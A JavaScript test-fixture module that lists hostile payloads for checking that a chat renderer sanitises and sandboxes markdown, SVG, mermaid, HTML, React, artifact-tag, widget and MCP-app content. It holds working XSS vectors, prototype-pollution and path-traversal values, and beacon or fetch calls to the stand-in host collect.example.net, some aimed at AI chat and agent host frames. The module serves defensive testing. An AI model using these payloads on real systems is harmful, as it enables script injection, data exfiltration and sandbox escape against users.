/**
 * Content that tries to get out, for attacks.html and for the tests. `REMOTE` is an address that must never be asked;
 * a script that runs where it must not sets `reached` on the page. `control: true`: harmless, and must be drawn;
 * `shows` is text that is then to be seen.
 */
const REMOTE = 'https://collect.example.net';
const RUN = 'top.reached=true';

const of = (kind, entries) =>
  entries.map(([name, payload, more]) => ({ id: `${kind}-${name}`, kind, payload, ...more }));

const markdown = of('markdown', [
  [
    'control',
    '# It works\n\nA **bold** word, a [link](https://example.org/), `code` and a list:\n\n- one\n- two',
    { control: true, shows: 'A bold word' },
  ],
  ['script-tag', `Before\n\n<script>${RUN}</script>\n\nAfter`],
  ['img-onerror', `<img src=x onerror="${RUN}">`],
  ['svg-onload', `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`],
  ['iframe-javascript', `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  ['details-ontoggle', `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
  [
    'link-javascript',
    `[click](javascript:${RUN}) [tab](java\tscript:${RUN}) [case](JaVaScRiPt:${RUN}) [space]( javascript:${RUN})`,
  ],
  ['link-entity', `[click](&#106;avascript:${RUN}) [colon](javascript&colon;${RUN}) [zero](java&#0;script:${RUN})`],
  [
    'link-data',
    `[click](data:text/html;base64,PHNjcmlwdD50b3AucmVhY2hlZD10cnVlPC9zY3JpcHQ+) [vb](vbscript:x) [file](file:///etc/passwd) [blob](blob:null/1) [intent](intent://x#Intent;end)`,
  ],
  ['autolink', `<javascript:${RUN}> <data:text/html,<script>${RUN}</script>>`],
  ['reference', `[click][r]\n\n[r]: javascript:${RUN} "title"`],
  [
    'link-title-breakout',
    `[x](https://example.org "\\" onmouseover=\\"${RUN}\\" x=\\"") ![x](https://example.org/a.png "\\" onerror=\\"${RUN}")`,
  ],
  [
    'image-beacon',
    `![](${REMOTE}/pixel.png?q=secret) ![alt](//collect.example.net/p.gif)\n\n![r][i]\n\n[i]: ${REMOTE}/ref.png`,
  ],
  [
    'image-svg-data',
    `![x](data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><script>${RUN}</script></svg>)`,
  ],
  ['image-javascript', `![x](javascript:${RUN})`],
  [
    'html-block-form',
    `<form action="${REMOTE}/f"><input name=a autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Go</button></form>`,
  ],
  [
    'style-overlay',
    `<style>body{display:none}</style><div style="position:fixed;inset:0;background:red;z-index:9999">gotcha</div>`,
  ],
  [
    'clobber',
    `<form id="headless"><input name="attributes"></form><a id="location" href="x"></a><img name="currentScript"><a id=HeadlessController></a>`,
  ],
  [
    'base-meta-link',
    `<base href="${REMOTE}/"><meta http-equiv="refresh" content="0;url=${REMOTE}/r"><link rel="stylesheet" href="${REMOTE}/s.css"><link rel=prefetch href="${REMOTE}/p">`,
  ],
  [
    'kit-tags',
    `<artifact-view></artifact-view><vitrine-consent-dialog></vitrine-consent-dialog><chat-message text="x" onclick="${RUN}"></chat-message>`,
  ],
  [
    'fence-language',
    `\`\`\`"><img/src=x/onerror=${RUN}>\nx\n\`\`\`\n\n\`\`\`__proto__\nx\n\`\`\`\n\n\`\`\`constructor\nx\n\`\`\``,
  ],
  ['deep-nesting', `${'> '.repeat(600)}deep\n\n${'- '.repeat(400)}deep\n\n${'['.repeat(3000)}x`],
  ['emphasis-bomb', `${'*a_ '.repeat(8000)}\n\n${'`'.repeat(5000)}`],
  [
    'mermaid-fence',
    `\`\`\`mermaid\nflowchart LR\n  a["<img src=x onerror=${RUN}>"] --> b\n  click a href "javascript:${RUN}"\n\`\`\``,
  ],
]);

const svgOf = (inside, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" ${attributes}>${inside}</svg>`;
const svg = of('svg', [
  [
    'control',
    svgOf(
      '<title>A plain picture</title><rect width="100" height="100" fill="#163f37"/><text x="10" y="55" font-size="12" fill="#fff">It works</text>',
    ),
    { control: true, shows: 'It works' },
  ],
  ['script', svgOf(`<script>${RUN}</script><script href="${REMOTE}/x.js"/><text y="20">left</text>`)],
  ['onload', svgOf(`<rect width="9" height="9" onclick="${RUN}" onmouseover="${RUN}"/>`, `onload="${RUN}"`)],
  [
    'foreign-object',
    svgOf(
      `<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${RUN}"></iframe><img src="x" onerror="${RUN}"/></body></foreignObject>`,
    ),
  ],
  [
    'animate-href',
    svgOf(
      `<a><animate attributeName="href" values="javascript:${RUN}" fill="freeze"/><set attributeName="href" to="javascript:${RUN}"/><text y="20">go</text></a>`,
    ),
  ],
  [
    'image-use',
    svgOf(
      `<image href="${REMOTE}/i.png" width="9" height="9"/><use href="${REMOTE}/s.svg#a"/><use xlink:href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/><feImage href="${REMOTE}/f.png"/>`,
    ),
  ],
  [
    'url-everywhere',
    svgOf(
      `<rect width="50" height="50" fill="url(${REMOTE}/p.svg#a)" style="filter:url(${REMOTE}/f.svg#b);mask-image:image-set('${REMOTE}/m.png' 1x);cursor:url(${REMOTE}/c.cur),auto"/>`,
    ),
  ],
  [
    'style-element',
    svgOf(
      `<style>@import "${REMOTE}/a.css"; @font-face{font-family:x;src:url(${REMOTE}/f.woff)} :host,body,*{display:none!important} text{font-family:x;background:url(${REMOTE}/b.png)}</style><text y="20">left</text>`,
    ),
  ],
  [
    'overlay',
    svgOf(
      '<rect width="100" height="100" fill="red"/>',
      'style="position:fixed;inset:0;width:100vw;height:100vh;z-index:99999" popover="auto" tabindex="1" autofocus',
    ),
  ],
  [
    'link-javascript',
    svgOf(
      `<a href="javascript:${RUN}"><text y="20">a</text></a><a xlink:href="java&#9;script:${RUN}"><text y="40">b</text></a><a href="data:text/html,x"><text y="60">c</text></a>`,
    ),
  ],
  [
    'entity',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>${RUN}</script>"><!ENTITY r SYSTEM "${REMOTE}/e">]>${svgOf('&x;&r;<text y="20">left</text>')}`,
  ],
  ['mutation', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`],
  [
    'namespace',
    `<svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  ],
  ['not-svg', `<img src=x onerror="${RUN}"><h1>Not a picture</h1>`],
  ['clobber', svgOf('<g id="headless"/><g id="location"/><text id="body" name="attributes" y="20">x</text>')],
  ['nested-svg-bomb', svgOf('<g>'.repeat(3000) + '<text y="9">x</text>' + '</g>'.repeat(3000))],
]);

const mermaid = of('mermaid', [
  ['control', 'flowchart LR\n  start[Weigh] --> stop[Taste it]', { control: true, shows: 'Taste it' }],
  ['label-html', `flowchart LR\n  a["<img src=x onerror=${RUN}>"] --> b["<script>${RUN}</script>"]`],
  ['click-href', `flowchart LR\n  a --> b\n  click a href "javascript:${RUN}"\n  click b "${REMOTE}/go" "tip" _top`],
  ['click-call', 'flowchart LR\n  a --> b\n  click a call alert()\n  click b callback'],
  [
    'init',
    `%%{init: {"securityLevel":"loose","htmlLabels":true,"themeCSS":"*{background:url(${REMOTE}/t.png)}","fontFamily":"x;}@import url(${REMOTE}/i.css)"}}%%\nflowchart LR\n  a["<b onclick=${RUN}>x</b>"] --> b`,
  ],
  [
    'front-matter',
    `---\nconfig:\n  securityLevel: loose\n  themeVariables:\n    primaryColor: "url(${REMOTE}/c.png)"\n---\nflowchart LR\n  a --> b`,
  ],
  ['image-node', `flowchart LR\n  a@{ img: "${REMOTE}/n.png", label: "x", w: 60, h: 60 } --> b`],
  [
    'class-def',
    `flowchart LR\n  a:::x --> b\n  classDef x fill:url(${REMOTE}/d.svg#a),background:url(${REMOTE}/d.png)\n  style b fill:red;}*{background:url(${REMOTE}/e.png)}`,
  ],
  [
    'sequence-link',
    `sequenceDiagram\n  participant A\n  link A: Board @ javascript:${RUN}\n  links A: {"x": "javascript:${RUN}"}\n  A->>A: <img src=x onerror=${RUN}>`,
  ],
  ['too-many-edges', `flowchart LR\n${Array.from({ length: 400 }, (_, i) => `  n${i} --> n${i + 1}`).join('\n')}`],
  ['prototype', 'flowchart LR\n  __proto__ --> constructor\n  hasOwnProperty --> toString'],
]);

const page = (inside) => `<!doctype html><title>x</title><h1>Page</h1>${inside}`;
const script = (inside) => page(`<script>${inside}</script>`);
const html = of('html', [
  [
    'control',
    '<!doctype html><title>ok</title><h1>It works</h1><p id="p"></p><script>localStorage.setItem("a", "kept"); document.querySelector("#p").textContent = localStorage.getItem("a")</script>',
    { control: true, shows: 'kept' },
  ],
  [
    'read-host',
    script(
      `try{top.reached=true}catch{} try{parent.document.title='x'}catch{} try{parent.parent.localStorage.setItem('reached','1')}catch{}`,
    ),
  ],
  [
    'remove-sandbox',
    script(`try{frameElement.removeAttribute('sandbox')}catch{} try{parent.frameElement.sandbox='';}catch{}`),
  ],
  [
    'fetch',
    script(`fetch('${REMOTE}/fetch').catch(()=>{}); fetch('${REMOTE}/no-cors',{mode:'no-cors'}).catch(()=>{})`),
  ],
  [
    'xhr-beacon',
    script(
      `try{const x=new XMLHttpRequest();x.open('GET','${REMOTE}/xhr');x.send()}catch{} try{navigator.sendBeacon('${REMOTE}/beacon','x')}catch{}`,
    ),
  ],
  [
    'sockets',
    script(
      `try{new WebSocket('wss://collect.example.net/ws')}catch{} try{new EventSource('${REMOTE}/es')}catch{} try{new RTCPeerConnection({iceServers:[{urls:'stun:collect.example.net'}]})}catch{}`,
    ),
  ],
  [
    'images-css',
    page(
      `<img src="${REMOTE}/i.png"><style>@import url(${REMOTE}/i.css);body{background:url(${REMOTE}/b.png)}</style><link rel=stylesheet href="${REMOTE}/l.css"><video poster="${REMOTE}/v.png" src="${REMOTE}/v.mp4"></video>`,
    ),
  ],
  [
    'hints',
    page(
      `<link rel=prefetch href="${REMOTE}/pf"><link rel=preload as=script href="${REMOTE}/pl"><link rel=modulepreload href="${REMOTE}/mp"><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${REMOTE}/sr"]}]}</script>`,
    ),
  ],
  [
    'frames',
    page(
      `<iframe src="${REMOTE}/f"></iframe><object data="${REMOTE}/o"></object><embed src="${REMOTE}/e"><iframe srcdoc="<script>top.reached=true</script>"></iframe>`,
    ),
  ],
  [
    'remote-script',
    page(`<script src="${REMOTE}/s.js"></script><script type=module>import('${REMOTE}/m.js').catch(()=>{})</script>`),
  ],
  ['worker', script(`try{new Worker(URL.createObjectURL(new Blob(["fetch('${REMOTE}/worker')"])))}catch{}`)],
  [
    'form',
    page(
      `<form id=f action="${REMOTE}/form" method=post><input name=a value=secret></form><script>f.submit(); try{f.requestSubmit()}catch{}</script>`,
    ),
  ],
  [
    'top-navigation',
    script(
      `try{top.location='${REMOTE}/top'}catch{} try{parent.location.href='${REMOTE}/parent'}catch{} try{window.open('${REMOTE}/top','_top')}catch{}`,
    ),
  ],
  ['self-navigation', script(`location.href='${REMOTE}/self?secret=1'`)],
  ['meta-refresh', page(`<meta http-equiv=refresh content="0;url=${REMOTE}/refresh">`)],
  [
    'pop-up',
    script(
      `try{open('${REMOTE}/popup')}catch{} try{const a=document.createElement('a');a.href='${REMOTE}/blank';a.target='_blank';document.body.append(a);a.click()}catch{}`,
    ),
  ],
  [
    'download',
    script(
      `const a=document.createElement('a');a.href='data:application/octet-stream,x';a.download='evil.exe';document.body.append(a);a.click()`,
    ),
  ],
  ['dialogs', script(`try{alert(1)}catch{} try{confirm(1)}catch{} try{print()}catch{}`)],
  [
    'messages',
    script(
      `for(let i=0;i<200;i++){parent.postMessage({hello:1,nonce:'x',type:'vitrine',id:i},'*');top.postMessage({jsonrpc:'2.0',method:'tools/call',params:{name:'delete'}},'*')}`,
    ),
  ],
  ['escape-srcdoc', `</script></body></html><script>top.reached=true</script>$& $\` \\u2028 <!-- <script>`],
  [
    'close-meta',
    `--></title></style></textarea></noscript><meta http-equiv="Content-Security-Policy" content="default-src *"><script>fetch('${REMOTE}/csp').catch(()=>{});top.reached=true</script>`,
  ],
  [
    'clipboard-device',
    script(
      `navigator.clipboard?.readText?.().catch(()=>{});navigator.mediaDevices?.getUserMedia?.({video:true}).catch(()=>{});navigator.geolocation?.getCurrentPosition?.(()=>{})`,
    ),
  ],
  [
    'service-worker',
    script(
      `navigator.serviceWorker?.register?.('/sw.js')?.catch?.(()=>{}); try{indexedDB.open('x')}catch{} try{document.cookie='a=b'}catch{}`,
    ),
  ],
]);

const react = of('react', [
  [
    'control',
    'export default function App() {\n  const [n, setN] = React.useState(1);\n  return <button onClick={() => setN(n + 1)}>It works, {n}</button>;\n}',
    { control: true, shows: 'It works, 1' },
  ],
  [
    'inner-html',
    `export default () => <div dangerouslySetInnerHTML={{ __html: '<img src=x onerror="top.reached=true">' }} />;`,
  ],
  [
    'host',
    `export default function App() { try { top.reached = true; } catch {} try { parent.document.body.remove(); } catch {} return <p>done</p>; }`,
  ],
  [
    'network',
    `export default function App() { React.useEffect(() => { fetch('${REMOTE}/react').catch(() => {}); new Image().src = '${REMOTE}/react.png'; }, []); return <img src="${REMOTE}/r.png" />; }`,
  ],
  ['import-remote', `import x from '${REMOTE}/module.js';\nexport default () => <p>{String(x)}</p>;`],
  ['break-out', `export default () => <p>{'</script><script>top.reached=true</script>'}{'$&'}{'<!--'}</p>;`],
  [
    'navigate',
    `export default function App() { React.useEffect(() => { try { top.location.href = '${REMOTE}/top'; } catch {} location.assign('${REMOTE}/self'); }, []); return <p>going</p>; }`,
  ],
  ['javascript-href', `export default () => <a href="javascript:top.reached=true" ref={(a) => a?.click()}>click</a>;`],
  [
    'prototype',
    `Object.prototype.reached = true; Array.prototype.map = () => { throw new Error('x'); };\nexport default () => <p>done</p>;`,
  ],
]);

const title = of('title', [
  ['control', 'A plain title', { control: true, shows: 'A plain title' }],
  ['markup', `<img src=x onerror=${RUN}><script>${RUN}</script>`],
  ['attribute', `" onmouseover="${RUN}" x="`],
  ['bidi', 'Invoice \u202efdp.exe\u2066 \u200b\u0007'],
  ['lit', '${' + RUN + '} <!--?lit$1$--> {{7*7}}'],
  ['long', 'W'.repeat(4000)],
  ['path', '../../../etc/passwd\u0000 CON'],
]);

const tag = (attributes, content = '<h1>x</h1>') => `<artifact ${attributes}>${content}</artifact>`;
const card = of('card', [
  [
    'control',
    `Here:\n\n${tag('type="markdown" title="A plain card"', '# It opens')}`,
    { control: true, shows: 'A plain card' },
  ],
  [
    'attribute-names',
    tag(`type="html" title="x" onclick="${RUN}" style="position:fixed" __proto__="x" constructor="y" id="body"`),
  ],
  [
    'type-name',
    tag('type="__proto__" title="x"') + tag('type="constructor" title="x"') + tag('type="../../evil" title="x"'),
  ],
  [
    'language',
    tag('type="code" title="x" language="__proto__"', 'let a') +
      tag(`type="code" title="y" language="<img src=x onerror=${RUN}>"`, 'let a'),
  ],
  [
    'identifier',
    tag('type="svg" title="a" identifier="__proto__"', svgOf('<text y="20">a</text>')) +
      tag('type="svg" title="b" identifier="__proto__"', svgOf(`<script>${RUN}</script>`)),
  ],
  [
    'nested',
    tag('type="html" title="outer"', `<artifact type="html" title="inner"><script>${RUN}</script></artifact>`),
  ],
  ['reasoning', `<think>${tag('type="html" title="from reasoning"', `<script>${RUN}</script>`)}</think>Done.`],
  [
    'broken',
    `<artifact type="html" title="a" <artifact type="html" title="b"><script>${RUN}</script></artifact></artifact></artifact`,
  ],
  ['code-html', tag('type="code" title="x" language="html"', `<script>${RUN}</script><img src=x onerror=${RUN}>`)],
  ['many', Array.from({ length: 60 }, (_, i) => tag(`type="code" title="file ${i}"`, 'x')).join('')],
]);

const block = (...elements) => JSON.stringify({ type: 'codeagents-ui', version: 1, elements });
const hostile = `<img src=x onerror="${RUN}"><script>${RUN}</script>`;
const picture = (id, url) => ({ type: 'image', id, source: { kind: 'remote_url', url }, alt: hostile });
const widget = of('widget', [
  [
    'control',
    block({ type: 'table', id: 't', columns: ['Grind', 'Time'], rows: [['fine', 25]] }),
    { control: true, shows: 'Grind' },
  ],
  [
    'markup',
    block(
      { type: 'card', id: hostile, title: hostile, children: [{ type: 'markdown', id: 'm', content: hostile }] },
      { type: 'table', id: 't', caption: hostile, columns: [hostile], rows: [[hostile]] },
      {
        type: 'chart',
        id: 'c',
        chartType: 'bar',
        title: hostile,
        x: [hostile],
        series: [{ name: hostile, values: [1] }],
      },
    ),
  ],
  [
    'link',
    block({
      type: 'markdown',
      id: 'm',
      content: `[a](javascript:${RUN}) <a href="javascript:${RUN}">b</a> [c](data:text/html,<script>${RUN}</script>)`,
    }),
  ],
  [
    'image',
    block(
      { type: 'gallery', id: 'g', images: [picture('a', `${REMOTE}/g.png`), picture('b', `javascript:${RUN}`)] },
      { type: 'image', id: 'i', source: { kind: 'project_file', path: '../../etc/passwd' }, alt: 'x' },
      { type: 'video', id: 'v', source: { kind: 'remote_url', url: `${REMOTE}/v.mp4` } },
    ),
  ],
  [
    'prototype',
    '{"type":"codeagents-ui","version":1,"__proto__":{"reached":true},"elements":[{"type":"__proto__"},' +
      '{"type":"constructor","id":"hasOwnProperty"},{"type":"card","id":"a","__proto__":{"reached":true},"children":[]}]}',
  ],
  [
    'colour',
    block({
      type: 'chart',
      id: 'c',
      chartType: 'line',
      x: ['a', 'b'],
      series: [{ name: 'x', values: [1, 2], color: `red;background:url(${REMOTE}/c.png)` }],
      style: `position:fixed;inset:0;background:url(${REMOTE}/s.png)`,
    }),
  ],
  [
    'deep',
    block(
      Array.from({ length: 200 }).reduce((child, _, at) => ({ type: 'card', id: `c${at}`, children: [child] }), {
        type: 'markdown',
        id: 'm',
        content: hostile,
      }),
    ),
  ],
]);

/** An app that shakes hands under a name, and then does something. */
const app = (script, name = 'App') => `<!doctype html><p id="out">App</p><script>
const post = (message) => parent.postMessage({ jsonrpc: '2.0', ...message }, '*');
let id = 0;
const ask = (method, params = {}) => post({ id: (id += 1), method, params });
const tell = (method, params = {}) => post({ method, params });
addEventListener('message', ({ data }) => {
  if (data?.id !== 1) return;
  tell('ui/notifications/initialized');
  ${script}
});
ask('ui/initialize', { appInfo: { name: ${JSON.stringify(name)}, version: '1' }, appCapabilities: {}, protocolVersion: '2026-01-26' });
</script>`;
const mcpApp = of('mcp-app', [
  ['control', app("out.textContent = 'The app is here';"), { control: true, shows: 'The app is here' }],
  [
    'host-page',
    app(`for (const w of [parent, parent.parent, top]) { try { w.reached = true } catch {} try { w.document.body.remove() } catch {}
    try { w.eval('${RUN}') } catch {} try { w.localStorage.reached = '1' } catch {} }`),
  ],
  [
    'navigate',
    app(`try { top.location = '${REMOTE}/top' } catch {} open('${REMOTE}/open');
    const a = Object.assign(document.createElement('a'), { href: '${REMOTE}/self' }); document.body.append(a); a.click();
    setTimeout(() => location.assign('${REMOTE}/assign'), 20);`),
  ],
  [
    'requests',
    app(`fetch('${REMOTE}/fetch').catch(() => 0); new Image().src = '${REMOTE}/image'; navigator.sendBeacon('${REMOTE}/b', 'x');
    try { new WebSocket('wss://collect.example.net/s') } catch {} import('${REMOTE}/m.js').catch(() => 0);`),
  ],
  [
    'asks-for-everything',
    app(`ask('ui/open-link', { url: '${REMOTE}/link' }); ask('ui/open-link', { url: 'javascript:${RUN}' });
    ask('ui/message', { role: 'user', content: [{ type: 'text', text: '<img src=x onerror=${RUN}>' }] });
    ask('ui/download-file', { contents: [{ type: 'resource', resource: { uri: 'file:///../CON', text: 'x' } }] });
    ask('tools/call', { name: 'anything', arguments: {} }); ask('sampling/createMessage', { messages: [] });
    tell('ui/notifications/size-changed', { height: 1e9, width: '100vh;position:fixed' });
    tell('ui/notifications/size-changed', { height: -1 });`),
  ],
  [
    'talks-as-the-kit',
    app(`for (const w of [parent, top]) for (const m of [{ hello: true, nonce: 'x' }, { kind: 'error' },
    { jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: { html: '<script>${RUN}<\\/script>', sandbox: 'allow-same-origin allow-scripts' } },
    { __proto__: { reached: true }, constructor: { prototype: { reached: true } } }]) try { w.postMessage(m, '*') } catch {}`),
  ],
  [
    'prototype',
    app(
      `post(JSON.parse('{"id":9,"method":"ui/update-model-context","params":{"__proto__":{"reached":1},"structuredContent":{"__proto__":{"reached":1},"constructor":{"prototype":{"reached":1}}}}}'));`,
    ),
  ],
  ['name', app('', `<img src=x onerror=${RUN}>\u202e</title><script>${RUN}`)],
  [
    'flood',
    app(
      'const end = Date.now() + 3000; (function more() { for (let i = 0; i < 200; i += 1) tell("x", { i }); if (Date.now() < end) setTimeout(more) })();',
    ),
  ],
  [
    'nested-frame',
    app(
      `const f = document.createElement('iframe'); f.srcdoc = "<script>for (const w of [parent, parent.parent, top]) { try { w.reached = true } catch {} w.postMessage({ jsonrpc: '2.0', id: 5, method: 'tools/call', params: { name: 'x' } }, '*') }<\\/script>"; document.body.append(f);`,
    ),
  ],
]);

export const PAYLOADS = [...markdown, ...svg, ...mermaid, ...html, ...react, ...title, ...card, ...widget, ...mcpApp];
